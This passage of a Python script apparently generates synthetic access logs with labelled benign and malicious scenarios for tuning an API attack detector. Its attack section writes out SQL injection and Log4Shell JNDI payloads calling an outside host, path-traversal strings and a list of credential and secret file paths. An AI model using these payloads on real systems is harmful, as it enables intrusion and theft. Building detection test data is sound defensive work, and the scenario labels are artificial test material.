    L.add(t, ips[0], "GET", "/robots.txt", 200, 312, uas[0], actor=a)
    cur = rng.randint(10001, 40000)
    while t < t0 + dur:
        t += rng.expovariate(1 / 4.0)
        if rng.random() < 0.01:
            L.add(t, rng.choice(ips), "GET", f"/sitemap-products-{rng.randint(1, 9)}.xml", 200, 488120,
                  rng.choice(uas), actor=a)
            cur = rng.randint(10001, 55000)
            continue
        cur += rng.choice([1, 1, 1, 2, 3, 5, 8, 13, 40])
        if rng.random() < 0.4:
            pid = rng.choice(shop.pop_products)
        else:
            pid = cur
        ua, ip = rng.choice(uas), rng.choice(ips)
        st = 404 if pid in shop.removed else 200
        L.add(t, ip, "GET", f"/products/{pid}-{shop.slug(pid)}", st, 16800 if st == 200 else 5120, ua, actor=a)
        if st == 200 and rng.random() < api_share:  # the renderer runs the page's JavaScript
            L.add(t + rng.uniform(1, 20), ip, "GET", f"/api/v1/products/{pid}", 200, rng.randint(2100, 5200), ua,
                  SITE + f"/products/{pid}-{shop.slug(pid)}", actor=a)


def link_checker(L, shop, pool, rng, t0, a):
    ip = pool.res_v4()
    ua = "W3C-checklink/5.0.0 libwww-perl/6.77"
    t = t0
    pages = ["/", "/about", "/shipping", "/returns", "/contact", "/imprint", "/privacy", "/careers",
             "/blog/winter-layering-guide", "/blog/how-we-source-merino", "/blog/2024-gift-guide",
             "/c/men", "/c/women", "/c/home", "/c/kitchen", "/gift-cards", "/size-guide", "/faq"]
    dead = ["/blog/2019-summer-sale", "/press/kit.pdf", "/stores/berlin-mitte", "/c/clearance",
            "/blog/2021-gift-guide", "/newsletter/archive/2022-11"]
    for p in pages:
        L.add(t, ip, "GET", p, 200, 16000 + rng.randint(0, 9000), ua, actor=a)
        t += rng.uniform(0.5, 2)
        for _ in range(rng.randint(3, 9)):
            if rng.random() < 0.12:
                link, st = rng.choice(dead), 404
            else:
                pid = rng.choice(shop.pop_products)
                link, st = f"/products/{pid}-{shop.slug(pid)}", (404 if pid in shop.removed else 200)
            L.add(t, ip, "HEAD", link, st, 0, ua, SITE + p, actor=a)
            t += rng.uniform(0.3, 1.5)


def office_users(L, shop, pool, rng, t0, dur, a, ip, n=90, ua_mix="office"):
    names = set()
    first = ["anna", "ben", "clara", "david", "elif", "felix", "greta", "hannes", "ines", "jonas", "katja", "lukas",
             "mara", "nils", "olga", "paul", "rosa", "sven", "tara", "uwe", "vera", "yusuf", "zoe", "mehmet",
             "sofia", "tim", "lea", "marco", "nina", "piotr"]
    last = ["schmidt", "meyer", "novak", "kaya", "fischer", "weber", "wagner", "becker", "hoffmann", "koch",
            "richter", "klein", "wolf", "neumann", "schwarz", "braun", "zimmermann", "krause", "lange", "hahn"]
    while len(names) < n:
        names.add(f"{rng.choice(first)}.{rng.choice(last)}")
    names = sorted(names)
    rng.shuffle(names)
    staff = []
    for nm in names:
        staff.append((nm, rng.choice([CHROME_WIN.format(v=142), CHROME_WIN.format(v=143), EDGE_WIN.format(v=143),
                                      FIREFOX_WIN.format(v=140), CHROME_MAC.format(v=143), SAFARI_MAC.format(v="26.1")]),
                      rng.randint(1, 6)))
    for nm, ua, sessions in staff:
        for _ in range(sessions):
            t = t0 + rng.uniform(0, dur - 900)
            page = "/backoffice/"
            if rng.random() < 0.015:
                # wrong password once (the gateway answers 401, browser asks again)
                L.add(t, ip, "GET", "/api/v1/backoffice/customers?q=" + rng.choice(["mueller", "smith", "order+48"]),
                      401, 188, ua, SITE + page, nm, "HTTP/2.0", actor=a)
                t += rng.uniform(3, 12)
            for _ in range(rng.randint(2, 14)):
                x = rng.random()
                if x < 0.25:
                    term = rng.choice(["mueller", "schneider", "j.doe@", "+49 151", "order 48", "klein", "garcia",
                                       "nguyen", "kowalski", "rossi", "dubois"])
                    L.add(t, ip, "GET", "/api/v1/backoffice/customers?q=" + q(term), 200, rng.randint(900, 14000), ua,
                          SITE + page, nm, "HTTP/2.0", actor=a)
                elif x < 0.55:
                    cid = rng.randint(1, 184000)
                    L.add(t, ip, "GET", f"/api/v1/backoffice/customers/{cid}", 200, rng.randint(2500, 9000), ua,
                          SITE + page, nm, "HTTP/2.0", actor=a)
                elif x < 0.7:
                    L.add(t, ip, "GET", f"/api/v1/backoffice/tickets/{rng.randint(88000, 131000)}", 200,
                          rng.randint(1500, 12000), ua, SITE + page, nm, "HTTP/2.0", actor=a)
                elif x < 0.85:
                    oid = rng.randint(4500000, 4812000)
                    L.add(t, ip, "GET", f"/api/v1/orders/{oid}", 200, rng.randint(1500, 3400), ua, SITE + page,
                          nm, "HTTP/2.0", actor=a)
                elif x < 0.995:
                    pid = shop.product()
                    st = 404 if pid in shop.removed else 200
                    L.add(t, ip, "GET", f"/api/v1/products/{pid}", st, 87 if st == 404 else 3000, ua, SITE + page,
                          nm, "HTTP/2.0", actor=a)
                else:
                    # not allowed for this role
                    L.add(t, ip, "GET", f"/api/v1/backoffice/customers/{rng.randint(1, 184000)}", 403, 96, ua,
                          SITE + page, nm, "HTTP/2.0", actor=a)
                t += min(rng.lognormvariate(3.3, 1.0), 900)


def support_agent(L, shop, pool, rng, t0, dur, a, ip, user):
    ua = CHROME_WIN.format(v=143)
    t = t0 + rng.uniform(0, 300)
    end = t0 + dur
    while t < end:
        # one ticket: open it, look up the customer, their orders, maybe a search
        tid = rng.randint(120000, 131500)
        cid = rng.randint(1, 184000)
        L.add(t, ip, "GET", f"/api/v1/backoffice/tickets/{tid}", 200, rng.randint(1500, 12000), ua,
              SITE + "/backoffice/queue", user, "HTTP/2.0", actor=a)
        t += rng.uniform(5, 40)
        if rng.random() < 0.3:
            L.add(t, ip, "GET", "/api/v1/backoffice/customers?q=" + q(rng.choice(["weber", "anna k", "@gmx.de",
                                                                                  "48123", "lopez"])),
                  200, rng.randint(900, 9000), ua, SITE + f"/backoffice/tickets/{tid}", user, "HTTP/2.0", actor=a)
            t += rng.uniform(5, 30)
        L.add(t, ip, "GET", f"/api/v1/backoffice/customers/{cid}", 200, rng.randint(2500, 9000), ua,
              SITE + f"/backoffice/tickets/{tid}", user, "HTTP/2.0", actor=a)
        for _ in range(rng.choice([0, 1, 1, 2, 3])):
            t += rng.uniform(8, 60)
            L.add(t, ip, "GET", f"/api/v1/orders/{rng.randint(4300000, 4812000)}", 200, rng.randint(1500, 3400),
                  ua, SITE + f"/backoffice/customers/{cid}", user, "HTTP/2.0", actor=a)
        t += rng.uniform(60, 240)
        if rng.random() < 0.04:
            t += rng.uniform(900, 2400)  # break, meeting


def load_test(L, rng, t0, ip, a, seconds=120, vus=20):
    ua = "k6/0.45.0 (https://k6.io/)"
    terms = ["mug", "jacket", "backpack", "socks", "lamp", "kettle", "hoodie", "wallet", "yoga", "knife"]
    for v in range(vus):
        t = t0 + rng.uniform(0, 3)
        while t < t0 + seconds:
            term = rng.choice(terms)
            L.add(t, ip, "GET", f"/api/v1/products?search={term}&page=1&per_page=24", 200,
                  rng.randint(3000, 26000), ua, "-", "-", "HTTP/1.1", actor=a)
            t += rng.uniform(0.15, 0.5)
            if rng.random() < 0.3:
                pid = rng.choice([12077, 23410, 31882, 40412, 51234])
                L.add(t, ip, "GET", f"/api/v1/products/{pid}", 200, 3120, ua, "-", "-", "HTTP/1.1", actor=a)
                t += rng.uniform(0.1, 0.3)
            t += 1.0  # sleep(1) in the script


# --------------------------------------------------------------------------------------------------
# malicious behaviours


def seq_harvest(L, rng, t0, ip, a, lo=1000, hi=1400, route="/api/v1/customers/{}", span=240, ua=None):
    ua = ua or CHROME_WIN.format(v=120)
    missing = set(rng.sample(range(lo, hi + 1), int((hi - lo) * 0.08)))
    t = t0
    step = span / (hi - lo + 1)
    for i in range(lo, hi + 1):
        st = 404 if i in missing else 200
        L.add(t, ip, "GET", route.format(i), st, 87 if st == 404 else rng.randint(850, 1300), ua, "-", "-",
              "HTTP/1.1", actor=a)
        t += rng.uniform(0.3, 1.7) * step
    return t


def shuffled_harvest(L, rng, t0, ip, a, n=1000, lo=20000, span_ids=5000, seconds=360):
    ua = "python-httpx/0.27.0" if rng.random() < 0 else CHROME_MAC.format(v=131)
    ids = rng.sample(range(lo, lo + span_ids), n)
    exists = set(rng.sample(range(lo, lo + span_ids), int(span_ids * 0.55)))
    t = t0
    for i in ids:
        st = 200 if i in exists else 404
        L.add(t, ip, "GET", f"/api/v1/customers/{i}/addresses", st, rng.randint(400, 1400) if st == 200 else 87,
              ua, "-", "-", "HTTP/1.1", actor=a)
        t += rng.expovariate(n / seconds)


def slow_walk(L, shop, rng, t0, ip, a, hours=5):
    ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
    oid = shop.order_base - rng.randint(150000, 200000)
    t = t0
    while t < t0 + hours * 3600:
        st = 200 if rng.random() < 0.93 else 404
        L.add(t, ip, "GET", f"/api/v1/orders/{oid}", st, rng.randint(1500, 3400) if st == 200 else 87, ua, "-", "-",
              "HTTP/1.1", actor=a)
        oid += 1
        t += 60 + rng.uniform(-20, 20)


def slow_stuffing(L, rng, t0, ip, a, n=290, hours=6.2):
    ua = CHROME_WIN.format(v=119)
    gaps = [rng.expovariate(1) for _ in range(n)]
    scale = hours * 3600 / sum(gaps)
    t = t0
    wins = set(rng.sample(range(n), 5))
    for k in range(n):
        ok = k in wins
        L.add(t, ip, "POST", "/api/v1/auth/login", 200 if ok else 401, rng.randint(1580, 1650) if ok else 61, ua,
              SITE + "/login", "-", "HTTP/1.1", actor=a)
        if ok:  # the tool checks the account
            L.add(t + rng.uniform(0.5, 2), ip, "GET", "/api/v1/me", 200, rng.randint(620, 780), ua, SITE + "/login",
                  "-", "HTTP/1.1", actor=a)
        t += gaps[k] * scale


def distributed_stuffing(L, pool, rng, t0, a, n_ips=200, minutes=20):
    for _ in range(n_ips):
        ip = pool.customer(mobile=rng.random() < 0.3)  # residential proxy exits
        ua = browser_ua(rng)
        t = t0 + rng.uniform(0, minutes * 60)
        for _ in range(rng.choice([1, 1, 2, 2, 3])):
            ok = rng.random() < 0.05
            L.add(t, ip, "POST", "/api/v1/auth/login", 200 if ok else 401, 1611 if ok else 61, ua, SITE + "/login",
                  "-", "HTTP/2.0", actor=a)
            t += rng.uniform(2, 40)


SCAN_PATHS = [
    "/.env", "/.env.bak", "/.env.local", "/.env.production", "/.env.save", "/api/.env", "/app/.env", "/laravel/.env",
    "/.git/config", "/.git/HEAD", "/.git/index", "/.gitignore", "/.svn/entries", "/.hg/hgrc", "/.DS_Store",
    "/wp-login.php", "/wp-admin/", "/wp-admin/setup-config.php", "/wp-content/debug.log", "/wp-config.php.bak",
    "/xmlrpc.php", "/wp-includes/wlwmanifest.xml", "/backup.zip", "/backup.tar.gz", "/backup.sql", "/db.sql",
    "/dump.sql", "/database.sql", "/site.zip", "/www.zip", "/phpinfo.php", "/info.php", "/test.php", "/php.php",
    "/actuator/env", "/actuator/health", "/actuator/heapdump", "/actuator/mappings", "/server-status",
    "/server-info", "/config.json", "/config.yml", "/config/database.yml", "/.aws/credentials",
    "/.docker/config.json", "/docker-compose.yml", "/.travis.yml", "/.circleci/config.yml", "/composer.json",
    "/composer.lock", "/package.json", "/yarn.lock", "/.npmrc", "/.htaccess", "/.htpasswd", "/web.config",
    "/admin/", "/admin/login", "/administrator/", "/phpmyadmin/", "/pma/", "/adminer.php", "/manager/html",
    "/console", "/debug/default/view", "/_profiler/phpinfo", "/telescope/requests", "/horizon", "/solr/admin/",
    "/jenkins/login", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci",
    "/boaform/admin/formLogin", "/HNAP1/", "/owa/auth/logon.aspx", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
    "/remote/login", "/global-protect/login.esp", "/api/v1/pods", "/v2/_catalog", "/.well-known/security.txt",
    "/sftp-config.json", "/.vscode/sftp.json", "/id_rsa", "/.ssh/id_rsa", "/storage/logs/laravel.log",
    "/logs/error.log", "/error_log", "/debug.log", "/old/", "/bak/", "/test/", "/dev/", "/staging/", "/graphql",
    "/api/graphql", "/swagger-ui.html", "/v2/api-docs", "/v3/api-docs", "/openapi.json", "/api-docs",
]


def scanner_probe(L, rng, t0, ip, a, n=300, seconds=60, ua=None):
    ua = ua or CHROME_WIN.format(v=120)
    paths = list(SCAN_PATHS)
    exts = [".zip", ".tar.gz", ".sql", ".bak", ".old", ".rar", ".7z", ".tgz", ".sql.gz"]
    names = ["backup", "site", "www", "shop", "db", "data", "northwind", "shop.example.com", "html", "public",
             "web", "archive", "export", "prod", "2026", "dump"]
    dirs = ["", "", "/backup", "/backups", "/old", "/admin", "/wp-content", "/uploads", "/tmp"]
    while len(paths) < n:
        p = rng.choice(dirs) + "/" + rng.choice(names) + rng.choice(exts)
        if p not in paths:
            paths.append(p)
    rng.shuffle(paths)
    t = t0
    for p in paths[:n]:
        if p in ("/.git/config", "/.git/HEAD", "/.htaccess", "/.htpasswd", "/.git/index"):
            st, sz = 403, 153
        elif p in ("/actuator/health",):
            st, sz = 404, 87
        elif p == "/admin/":
            st, sz = 301, 169
        elif p == "/.well-known/security.txt":
            st, sz = 200, 412
        else:
            st, sz = 404, rng.choice([153, 5120])
        L.add(t, ip, "GET", p, st, sz, ua, "-", "-", "HTTP/1.1", actor=a)
        t += rng.expovariate(n / seconds)


def backup_sweep(L, pool, rng, t0, a, n_nets=50, n_ips=350, minutes=55):
    names = ["/site.tar.gz", "/backup.sql", "/www.zip", "/backup.zip", "/shop.zip", "/db.sql.gz", "/dump.sql",
             "/backup.tar.gz", "/web.zip", "/html.tar.gz", "/shop.example.com.zip", "/database.sql", "/public.zip",
             "/northwind.tar.gz", "/backup/db.sql", "/old.zip", "/www.tar.gz", "/site.sql", "/data.zip"]
    nets = set()
    while len(nets) < n_nets:
        pre = rng.choice(HOSTING_V4 + ["104.234", "23.94", "45.137", "193.32", "185.244", "91.215"])
        if pre.count(".") == 1:
            pre = f"{pre}.{rng.randint(0, 255)}"
        nets.add(pre)
    nets = sorted(nets)
    for _ in range(n_ips):
        ip = pool.in_net(rng.choice(nets))
        t = t0 + rng.uniform(0, minutes * 60)
        for p in rng.sample(names, rng.choice([1, 1, 2, 3])):
            L.add(t, ip, "HEAD", p, 404, 0, "-", "-", "-", "HTTP/1.1", actor=a)
            t += rng.uniform(0.2, 3)


def sqlmap(L, rng, t0, ip, a, n=80, ua="sqlmap/1.7.2#stable (https://sqlmap.org)", raw=False):
    payloads = ["1", "1'", "1\"", "1) AND 1=1-- -", "1' AND 5341=5341 AND 'kQnh'='kQnh", "1' ORDER BY 1-- -",
                "1' UNION ALL SELECT NULL,NULL,NULL-- -", "1' AND SLEEP(5)-- -", "1;SELECT PG_SLEEP(5)--",
                "1' AND EXTRACTVALUE(1,CONCAT(0x5c,0x716b6a7871))-- -", "(SELECT CHAR(113)||CHAR(107))",
                "1 AND 3021=(SELECT 3021 FROM PG_SLEEP(5))", "-5432' OR 2154=2154#"]
    t = t0
    for k in range(n):
        pl = rng.choice(payloads)
        enc = "".join(c if c.isalnum() or c in "-_." else "%%%02X" % ord(c) for c in pl)
        if rng.random() < 0.5:
            target = f"/api/v1/products?search={enc}&page=1"
        else:
            target = f"/api/v1/products/{enc}"
        st = rng.choice([200, 200, 400, 404, 500]) if "search" in target else rng.choice([400, 404])
        L.add(t, ip, "GET", target, st, rng.randint(90, 3000), ua, "-", "-", "HTTP/1.1", actor=a, raw_ua=raw)
        t += rng.uniform(0.2, 6) + (5 if "SLEEP" in pl else 0)


def nuclei(L, rng, t0, ip, a, n=90):
    ua = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
    t = t0
    for p in rng.sample(SCAN_PATHS, min(n, len(SCAN_PATHS))):
        st = 403 if p.startswith("/.git") else 404
        L.add(t, ip, "GET", p, st, 153, ua, "-", "-", "HTTP/1.1", actor=a)
        t += rng.uniform(0.02, 0.4)


def nikto(L, rng, t0, ip, a, n=60):
    t = t0
    extra = ["/cgi-bin/test-cgi", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", "/iisadmin/", "/_vti_bin/",
             "/servlet/SnoopServlet", "/examples/jsp/snp/snoop.jsp", "/~root", "/icons/README", "/manual/"]
    paths = rng.sample(SCAN_PATHS, n - len(extra)) + extra
    for k, p in enumerate(paths):
        ua = f"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{rng.randint(1, 8000):06d})"
        L.add(t, ip, "GET", p, 404, 153, ua, "-", "-", "HTTP/1.1", actor=a)
        t += rng.uniform(0.05, 0.6)


def basic_spray(L, rng, t0, ip, a, minutes=30):
    names = ["admin", "administrator", "root", "support", "test", "user", "info", "webmaster", "sales", "office",
             "backup", "guest", "demo", "operator", "manager", "helpdesk", "service", "api", "dev", "devops",
             "sysadmin", "it", "hr", "finance", "marketing", "shop", "northwind", "staff", "qa", "monitor",
             "anna.schmidt", "ben.meyer", "j.weber", "m.fischer", "postmaster", "ftp", "oracle", "jenkins",
             "deploy", "ubuntu"]
    ua = "python-requests/2.31.0"
    ts = sorted(rng.uniform(0, minutes * 60) for _ in names)
    for nm, dt in zip(names, ts):
        L.add(t0 + dt, ip, "GET", "/api/v1/backoffice/customers", 401, 188, ua, "-", nm, "HTTP/1.1", actor=a)


def wp_author(L, rng, t0, ip, a):
    ua = CHROME_WIN.format(v=108)
    t = t0
    L.add(t, ip, "GET", "/", 200, 16840, ua, actor=a)
    for k in range(1, 9):
        t += rng.uniform(0.3, 1.2)
        L.add(t, ip, "GET", f"/?author={k}", 200, 16840, ua, actor=a)  # the SPA answers every path with index.html
    t += rng.uniform(0.5, 2)
    L.add(t, ip, "GET", "/wp-json/wp/v2/users", 404, 5120, ua, actor=a)
    t += rng.uniform(0.3, 1)
    L.add(t, ip, "GET", "/wp-json/wp/v2/users?per_page=100&page=1", 404, 5120, ua, actor=a)


def token_in_url(L, pool, rng, t0, dur, a, n_users=200):
    for _ in range(n_users):
        u = User(rng, pool, kind=rng.choice(["web", "web", "web", "ios"]))
        t = t0 + rng.uniform(0, dur - 600)
        tok = base64.urlsafe_b64encode(rng.randbytes(32)).decode().rstrip("=")
        ref = "-" if u.kind != "web" else SITE + "/reset-password"
        if u.kind == "web":
            L.add(t, u.ip, "GET", "/reset-password", 200, 16840, u.ua, "-", "-", "HTTP/2.0", actor=a)
            t += rng.uniform(0.3, 1.5)
        expired = rng.random() < 0.1
        for _ in range(rng.choice([1, 1, 1, 2])):  # a reload sends it again
            L.add(t, u.ip, "GET", f"/api/v1/auth/password-reset?token={tok}", 410 if expired else 200,
                  44 if expired else 92, u.ua, ref, "-", "HTTP/2.0", actor=a)
            t += rng.uniform(2, 20)
        if not expired:
            t += rng.uniform(15, 90)
            L.add(t, u.ip, "POST", "/api/v1/auth/password-reset/confirm", 204, 0, u.ua, ref, "-", "HTTP/2.0", actor=a)
            t += rng.uniform(2, 8)
            L.add(t, u.ip, "POST", "/api/v1/auth/login", 200, 1611, u.ua, ref, "-", "HTTP/2.0", actor=a)


def reset_abuse(L, rng, t0, ip, a, n=60, seconds=600):
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"
    t = t0
    for _ in range(n):
        L.add(t, ip, "POST", "/api/v1/auth/password-reset", 202, 38, ua, SITE + "/forgot-password", "-", "HTTP/1.1",
              actor=a)
        t += rng.expovariate(n / seconds)


def otp_bruteforce(L, rng, t0, ip, a, n=100, seconds=420):
    ua = "okhttp/4.9.3"
    t = t0
    for k in range(n):
        st = 200 if k == n - 1 else (429 if k % 25 == 24 else 401)
        L.add(t, ip, "POST", "/api/v1/auth/otp/verify", st, 1622 if st == 200 else 54, ua, "-", "-", "HTTP/1.1",
              actor=a)
        t += rng.uniform(0.5, 7) + (30 if st == 429 else 0)


def injection(L, rng, t0, ip, a):
    ua = FIREFOX_WIN.format(v=128)
    reqs = [
        ("/api/v1/products?search=mug%27%20OR%20%271%27%3D%271&page=1", 200, 18400),
        ("/api/v1/products?search=%27%3B%20DROP%20TABLE%20orders%3B--", 200, 320),
        ("/api/v1/products?category=home%27%20UNION%20SELECT%20email%2Cpassword_hash%20FROM%20customers--", 400, 112),
        ("/api/v1/products?search=${jndi:ldap://193.142.146.12:1389/Exploit}", 200, 320),
        ("/api/v1/products?search=%24%7Bjndi%3Aldap%3A%2F%2Fx.oast.fun%2Fa%7D", 200, 320),
        ("/api/v1/media/612003.jpg?w=../../../../etc/passwd", 400, 112),
        ("/api/v1/orders?sort=id%2C(SELECT%20SLEEP(5))", 401, 68),
        ("/static/..%2f..%2f..%2f..%2fetc%2fpasswd", 400, 157),
    ]
    t = t0
    for target, st, sz in reqs:
        L.add(t, ip, "GET", target, st, sz, ua, SITE + "/search", "-", "HTTP/1.1", actor=a)
        t += rng.uniform(4, 50)


def ghost_routes(L, rng, t0, a_sw, a_v0, a_del, pool):
    # someone reading the API docs the old-fashioned way
    ip = pool.hosting()
    ua = CHROME_MAC.format(v=142)
    L.add(t0 + 420, ip, "GET", "/swagger.json", 200, 48211, ua, actor=a_sw)
    L.add(t0 + 431, ip, "GET", "/swagger.json", 200, 48211, ua, actor=a_sw)
    # a script still using the retired v0 API (still wired up behind nginx!)
    ip2 = pool.hosting()
    ua2 = "python-requests/2.28.1"
    t = t0 + 900
    for _ in range(36):
        L.add(t, ip2, "GET", f"/v0/users/{rng.randint(1, 184000)}", 200, rng.randint(700, 1200), ua2, actor=a_v0)
        t += rng.uniform(60, 440)
    # a method the spec does not have
    ip3 = pool.hosting()
    ua3 = "PostmanRuntime/7.39.0"
    t = t0 + 3000
    for _ in range(8):
        L.add(t, ip3, "DELETE", f"/api/v1/customers/{rng.randint(1, 184000)}", 204, 0, ua3, actor=a_del)
        t += rng.uniform(20, 300)


# --------------------------------------------------------------------------------------------------
# scenarios


def T(day, hh, mm=0):
    return datetime.datetime(2026, 12, day, hh, mm, tzinfo=datetime.timezone.utc).timestamp()


SCENARIOS = []


def scenario(set_, name):
    def deco(fn):
        SCENARIOS.append((set_, name, fn))
        return fn
    return deco


# each function returns (Log, readme text)

@scenario("tuning", "partner-order-sync")
def s_partner(rng):
    t0, dur = T(5, 7), 8 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a = L.actor("partner", False, "partner sync job: list changed orders, then fetch each (Go client, Basic auth)")
    partner_sync(L, shop, pool, rng, t0, dur, a)
    background(L, shop, pool, rng, t0, dur, 2.2, 1600)
    return L, ("An ordinary eight-hour shop day (07:00-15:00 UTC). A fulfilment partner (`partner-acme`, HTTP Basic, "
               "`Go-http-client/1.1`, one AWS address) polls every 5-15 minutes: it lists orders updated since its "
               "last run, then fetches each changed order by id, 5-60 per run. The ids are mostly the newest orders "
               "(nearly consecutive, at the top of the id range) plus a few older ones that changed state. All 200. "
               "Nothing here is an attack.")


@scenario("tuning", "export-backup-paging")
def s_export(rng):
    t0, dur = T(5, 1), 4 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur, 0.5)
    a = L.actor("exporter", False, "nightly export job paging ?page=1..400&per_page=100 through /api/v1/orders")
    export_job(L, pool, rng, t0 + 300, a)
    background(L, shop, pool, rng, t0, dur, 6.0, 700)
    return L, ("Night hours (01:00-05:00 UTC), light traffic. The nightly backup/export job (internal address "
               "10.20.3.14, user `svc-export`) pages through `GET /api/v1/orders?page=1..400&per_page=100&sort=id`, "
               "one page every 15-40 s, for about three hours. All 200. Nothing here is an attack.")


@scenario("tuning", "cdn-media-after-upload")
def s_cdn(rng):
    t0, dur = T(6, 13), 2 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    am = L.actor("merchant-upload", False, "merchant uploads 180 product images via POST /api/v1/media")
    ac = L.actor("cdn", False, "CloudFront edges pull the new consecutive media ids right after the upload")
    media_batch(L, pool, rng, t0 + 1200, am, ac, n=180)
    background(L, shop, pool, rng, t0, dur, 4.5, 900)
    return L, ("Afternoon, two hours. A merchant bulk-imports 180 product images (`POST /api/v1/media`, 201). Right "
               "after the catalogue publishes, four CloudFront edge addresses (`Amazon CloudFront`) fetch every new "
               "image once, `GET /api/v1/media/{id}.jpg` with consecutive ids in upload order, then a partial second "
               "wave. All 200. Nothing here is an attack.")


@scenario("tuning", "mobile-offline-resync")
def s_mobile(rng):
    t0, dur = T(6, 18), 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    for k, kind in enumerate(["android", "ios", "android"]):
        a = L.actor(f"resync-{k + 1}", False, f"{kind} app back online: 2x401, token refresh, then 30-80 requests "
                    "for the user's own orders and addresses within a minute")
        offline_sync(L, shop, pool, rng, t0 + 600 + k * 900 + rng.uniform(0, 300), a, kind=kind,
                     n_orders=[55, 28, 64][k])
    background(L, shop, pool, rng, t0, dur, 6.0, 500)
    return L, ("Evening hour. Three app users (two Android/okhttp, one iOS/CFNetwork or Alamofire) come back online "
               "after days offline: two 401s with the expired access token, a token refresh, then their profile, "
               "addresses, order list pages and each of their own past orders (28-70 orders; ids spread over the "
               "last years, fetched newest first) within about a minute. Nothing here is an attack.")


@scenario("tuning", "office-nat-backoffice")
def s_office(rng):
    t0, dur = T(7, 8), 8 * 3600
    L = Log(t0, 60)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    ip = pool.take("194.25.134.10")
    a = L.actor("office-nat", False, "90 staff behind one office NAT address using the back office (Basic auth)")
    office_users(L, shop, pool, rng, t0, dur, a, ip, n=90)
    background(L, shop, pool, rng, t0, dur, 1.8, 1300)
    return L, ("A working day (log in local time, +0100). The shop's own office sits behind one NAT address "
               "(194.25.134.10): 90 staff (distinct Basic-auth user names) use the back-office routes, look up "
               "customers, tickets, orders and products all day. A few of them mistype their password once (401) or "
               "open a record their role may not see (403). Customer traffic as usual. Nothing here is an attack.")


@scenario("tuning", "load-test-and-googlebot")
def s_loadtest(rng):
    t0, dur = T(8, 9), 3 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a = L.actor("k6-loadtest", False, "developer load test with k6 against /api/v1/products?search= for 2 minutes")
    load_test(L, rng, t0 + 5400, pool.take("91.64.203.77"), a)
    g = L.actor("googlebot", False, "Googlebot deep crawl of product pages (sitemap order, some 404s) and rendering API calls")
    deep_crawl(L, shop, pool, rng, t0, dur, g, "google")
    background(L, shop, pool, rng, t0, dur, 3.0, 900)
    return L, ("Three morning hours. A developer runs a k6 load test (`k6/0.45.0`, 20 virtual users, 2 minutes, "
               "~40 requests/s) against the documented product search and product routes from their home address. "
               "Googlebot crawls product pages in sitemap order from a dozen Google addresses (many distinct product "
               "ids, 3-5% removed products answer 404) and its renderer fetches `/api/v1/products/{id}` for some. "
               "Nothing here is an attack.")


@scenario("tuning", "sequential-customer-harvest")
def s_seq(rng):
    t0, dur = T(9, 10), 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a = L.actor("harvester", True, "walks /api/v1/customers/1000..1400 in about 4 minutes (BOLA)",
                ["id-enumeration"])
    seq_harvest(L, rng, t0 + 1500, pool.hosting(), a)
    background(L, shop, pool, rng, t0, dur, 6.0, 600)
    return L, ("One hour of normal traffic. At 10:25 one client (hosting address, an old Chrome user agent, a valid "
               "bearer token) requests `GET /api/v1/customers/1000` through `/1400` in order within about four "
               "minutes; the API wrongly answers 200 for other customers' records, 404 for deleted accounts (~8%). "
               "Malicious: record harvesting.")


@scenario("tuning", "low-and-slow-order-walk")
def s_slow(rng):
    t0, dur = T(10, 6), 6 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a = L.actor("slow-walker", True, "one request a minute for 5 hours through consecutive /api/v1/orders/{id}",
                ["id-enumeration"])
    slow_walk(L, shop, rng, t0 + 1800, pool.hosting(), a)
    background(L, shop, pool, rng, t0, dur, 2.0, 1000)
    return L, ("Six hours. From 06:30 a client requests `GET /api/v1/orders/{id}` once a minute (±20 s), each id one "
               "higher than the last, for five hours (~300 requests, 93% 200). Malicious: slow record harvesting "
               "meant to stay under rate limits.")


@scenario("tuning", "credential-stuffing-slow")
def s_stuff(rng):
    t0, dur = T(11, 5), 7 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a = L.actor("stuffer", True, "~290 failed logins from one client over ~6 hours, 5 successes",
                ["auth-failure-cluster", "sensitive-action-rate"])
    slow_stuffing(L, rng, t0 + 900, pool.hosting(), a)
    background(L, shop, pool, rng, t0, dur, 2.0, 1200)
    return L, ("Seven hours. One client (hosting address, Chrome 119 user agent) posts to `/api/v1/auth/login` about "
               "290 times over six hours at irregular intervals; nearly all 401, five logins succeed (each followed by "
               "`GET /api/v1/me`). Malicious: credential stuffing kept slow.")


@scenario("tuning", "scanners")
def s_scanners(rng):
    t0, dur = T(12, 14), 2 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a1 = L.actor("probe", True, "300 sensitive-file/admin paths in one minute, browser user agent",
                 ["unknown-endpoint"])
    scanner_probe(L, rng, t0 + 1000, pool.hosting(), a1)
    a2 = L.actor("sqlmap", True, "sqlmap/1.7.2#stable against the product search", ["suspicious-user-agent",
                                                                                  "unknown-endpoint"])
    sqlmap(L, rng, t0 + 2500, pool.hosting(), a2, n=70)
    a3 = L.actor("nuclei", True, "Nuclei templates against common paths", ["suspicious-user-agent", "unknown-endpoint"])
    nuclei(L, rng, t0 + 3900, pool.hosting(), a3, n=90)
    a4 = L.actor("sqlmap-padded", True, "sqlmap with control bytes around the agent", ["suspicious-user-agent",
                                                                                     "unknown-endpoint"])
